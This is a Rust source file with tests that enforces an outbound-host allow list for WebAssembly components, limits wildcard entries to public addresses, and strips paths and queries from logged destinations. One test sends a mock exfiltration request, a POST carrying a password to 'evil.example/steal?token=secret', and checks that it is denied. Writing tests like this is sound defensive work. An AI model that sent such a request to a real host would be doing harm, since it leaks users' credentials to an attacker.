//! Outbound HTTP from components: who may be called, and how requests are sent.
//!
//! - [`allow_list`] parses `allowed_outbound_hosts` and answers "may this URI be called?".
//! - [`client`] is the pooled, time-bounded HTTP client.
//! - [`OutboundHooks`] plugs both into `wasmtime-wasi-http` through its
//!   [`WasiHttpHooks::send_request`] hook: a request to a destination the component did
//!   not declare fails with `HTTP-request-denied` and is logged (scheme, host and port
//!   only: a path or query may carry secrets).
//! - [`address`]: a destination allowed only by a wildcard entry (`https://*:443`) may
//!   reach public addresses only, checked after DNS resolution; a refusal is also
//!   `HTTP-request-denied`, logged the same way.

pub mod address;
pub mod allow_list;
pub mod client;

use std::sync::Arc;
use std::time::Instant;

use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};

use crate::metrics::ComponentMetrics;
use allow_list::{AllowList, Permission};
use client::{OutboundClient, Reach};

/// The per-request `wasi:http` hooks of one component.
pub struct OutboundHooks {
    component: Arc<str>,
    allow: Arc<AllowList>,
    client: OutboundClient,
    metrics: Arc<ComponentMetrics>,
}

impl OutboundHooks {
    /// Hooks for `component`, allowing what `allow` allows.
    pub fn new(
        component: Arc<str>,
        allow: Arc<AllowList>,
        client: OutboundClient,
        metrics: Arc<ComponentMetrics>,
    ) -> Self {
        Self {
            component,
            allow,
            client,
            metrics,
        }
    }
}

/// `scheme://host:port` of a URI, for logs: never the path or the query.
fn destination(uri: &http::Uri) -> String {
    let scheme = uri.scheme_str().unwrap_or("?");
    let host = uri.host().unwrap_or("?");
    match uri.port_u16() {
        Some(port) => format!("{scheme}://{host}:{port}"),
        None => format!("{scheme}://{host}"),
    }
}

/// Most request body bytes read (and dropped) from a denied request.
const DENIED_BODY_LIMIT: usize = 1 << 20;

/// Reads a denied request's body before failing it, so that the guest's body writes
/// succeed and it learns the real reason (`HTTP-request-denied`) from the response
/// instead of a closed stream.
async fn drain(mut body: WasiBody) {
    use http_body_util::BodyExt as _;
    let mut read = 0;
    while read < DENIED_BODY_LIMIT {
        match body.frame().await {
            Some(Ok(frame)) => read += frame.data_ref().map_or(0, |data| data.len()),
            Some(Err(_)) | None => break,
        }
    }
}

type IoFuture = Box<dyn Future<Output = Result<(), HttpError>> + Send>;
type SendFuture =
    Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), HttpError>> + Send>;

impl WasiHttpHooks for OutboundHooks {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        _response_errors: IoFuture,
    ) -> SendFuture {
        let target = destination(request.uri());
        let reach = match self.allow.permission(request.uri()) {
            Permission::Literal => Reach::Any,
            Permission::PublicOnly => Reach::PublicOnly,
            Permission::Denied => Reach::None,
        };
        if reach == Reach::None {
            self.metrics.record_outbound_denied();
            tracing::warn!(
                component = %self.component,
                destination = %target,
                "outbound request denied: destination not in allowed_outbound_hosts"
            );
            return Box::new(async move {
                drain(request.into_body()).await;
                Err(HttpError::HttpRequestDenied)
            });
        }

        let client = self.client.clone();
        let component = Arc::clone(&self.component);
        let metrics = Arc::clone(&self.metrics);
        let method = request.method().clone();
        Box::new(async move {
            let started = Instant::now();
            let result = client.send(request, options, reach).await;
            let latency_ms = crate::metrics::log_millis(started.elapsed());
            match &result {
                Err(HttpError::HttpRequestDenied) => {
                    metrics.record_outbound_denied();
                    tracing::warn!(
                        component = %component,
                        destination = %target,
                        "outbound request denied: a wildcard allowed_outbound_hosts entry \
                         reaches public addresses only"
                    );
                }
                Ok(response) => tracing::debug!(
                    component = %component,
                    %method,
                    destination = %target,
                    status = response.status().as_u16(),
                    latency_ms,
                    "outbound request"
                ),
                Err(error) => tracing::info!(
                    component = %component,
                    %method,
                    destination = %target,
                    error = %error,
                    latency_ms,
                    "outbound request failed"
                ),
            }
            let response = result?;
            let io: IoFuture = Box::new(async { Ok(()) });
            Ok((response, io))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use http_body_util::{BodyExt as _, Full};
    use std::pin::Pin;

    #[tokio::test]
    async fn a_destination_outside_the_allow_list_is_denied_and_counted() {
        let allow = AllowList::parse(["https://bsky.social"]).unwrap();
        let metrics = Arc::new(ComponentMetrics::default());
        let mut hooks = OutboundHooks::new(
            Arc::from("bluesky"),
            Arc::new(allow),
            OutboundClient::new(client::OutboundOptions::default()).unwrap(),
            Arc::clone(&metrics),
        );
        let body = Full::new(Bytes::from_static(b"{\"password\":\"x\"}"))
            .map_err(|never| match never {})
            .boxed_unsync();
        let request = http::Request::post("https://evil.example/steal?token=secret")
            .body(body)
            .unwrap();
        let sent = hooks.send_request(request, None, Box::new(async { Ok(()) }));
        let result = Pin::from(sent).await;
        assert!(matches!(result, Err(HttpError::HttpRequestDenied)));
        assert_eq!(metrics.outbound_denied(), 1);
    }

    /// A local server answering `ok` to everything, and its port.
    async fn local_server() -> (u16, tokio::task::JoinHandle<()>) {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let server = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let service = hyper::service::service_fn(|_req| async {
                    Ok::<_, std::convert::Infallible>(hyper::Response::new(Full::new(
                        Bytes::from_static(b"ok"),
                    )))
                });
                tokio::spawn(
                    hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), service),
                );
            }
        });
        (port, server)
    }

    async fn send_with(list: &[&str], url: &str) -> (Result<u16, HttpError>, u64) {
        let allow = AllowList::parse(list.iter().copied()).unwrap();
        let metrics = Arc::new(ComponentMetrics::default());
        let mut hooks = OutboundHooks::new(
            Arc::from("bluesky"),
            Arc::new(allow),
            OutboundClient::new(client::OutboundOptions::default()).unwrap(),
            Arc::clone(&metrics),
        );
        let body = http_body_util::Empty::<Bytes>::new()
            .map_err(|never| match never {})
            .boxed_unsync();
        let request = http::Request::get(url).body(body).unwrap();
        let sent = hooks.send_request(request, None, Box::new(async { Ok(()) }));
        let result = Pin::from(sent)
            .await
            .map(|(response, _)| response.status().as_u16());
        (result, metrics.outbound_denied())
    }

    #[tokio::test]
    async fn a_wildcard_entry_does_not_reach_loopback_but_a_literal_entry_does() {
        let (port, server) = local_server().await;
        for url in [
            format!("http://localhost:{port}/"),
            format!("http://127.0.0.1:{port}/"),
            format!("http://[::ffff:127.0.0.1]:{port}/"),
        ] {
            let (result, denied) = send_with(&["http://*:*"], &url).await;
            assert!(
                matches!(result, Err(HttpError::HttpRequestDenied)),
                "{url}: {result:?}"
            );
            assert_eq!(denied, 1, "{url}");
        }
        let (result, denied) = send_with(
            &["http://*:*", "http://localhost:*"],
            &format!("http://localhost:{port}/"),
        )
        .await;
        assert_eq!(result.unwrap(), 200);
        assert_eq!(denied, 0);
        let (result, _) = send_with(
            &["http://127.0.0.1:*"],
            &format!("http://127.0.0.1:{port}/"),
        )
        .await;
        assert_eq!(result.unwrap(), 200);
        server.abort();
    }

    #[test]
    fn destinations_in_logs_carry_no_path_or_query() {
        let uri: http::Uri = "https://pds.example:8443/xrpc/x?code=secret"
            .parse()
            .unwrap();
        assert_eq!(destination(&uri), "https://pds.example:8443");
    }
}
